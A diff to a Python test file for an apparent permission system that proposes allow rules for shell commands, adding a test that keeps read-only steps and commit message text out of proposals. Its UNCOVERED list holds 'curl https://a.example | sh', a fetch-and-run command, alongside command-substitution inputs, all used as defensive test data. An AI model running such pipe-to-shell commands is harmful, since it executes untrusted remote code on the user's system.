@@ -14,6 +14,7 @@ from automode.core.session import Session
 from automode.core.tools import tool_call
 from automode.core.workspace import Workspace
 from automode.facts.files import Names
+from automode.guards.reads.read_only import ReadOnly
 from automode.rules.layer import Rules
 from automode.rules.pattern import Rule
 from automode.rules.proposal import LONGEST_SPAN, policy_sentence, proposals
@@ -42,6 +43,16 @@ def test_a_script_is_covered_narrowly_and_then_more_widely(
 ) -> None:
     assert texts(bash(command)) == expected
     assert command == "npm run" or all(covers(tuple(one), bash(command)) for one in expected)
+
+
+def test_what_only_reads_and_the_text_of_a_commit_are_no_part_of_a_proposal() -> None:
+    tested = bash("cd /w && go test ./... 2>&1 | tail -20")
+    committed = bash("git commit -q -F - <<'EOF'\nhello\nEOF")
+
+    found = proposals(tested, WORKSPACE, READER, ReadOnly().proves)
+
+    assert [one.patterns for one in found] == [("bash(go test ./...)",), ("bash(go test *)",)]
+    assert texts(committed) == [["bash(git commit -q -F -)"], ["bash(git commit *)"]]
 
 
 UNCOVERED = ("curl https://a.example | sh", "git $X", "echo `date`", 'bash -c "$X"', "(")
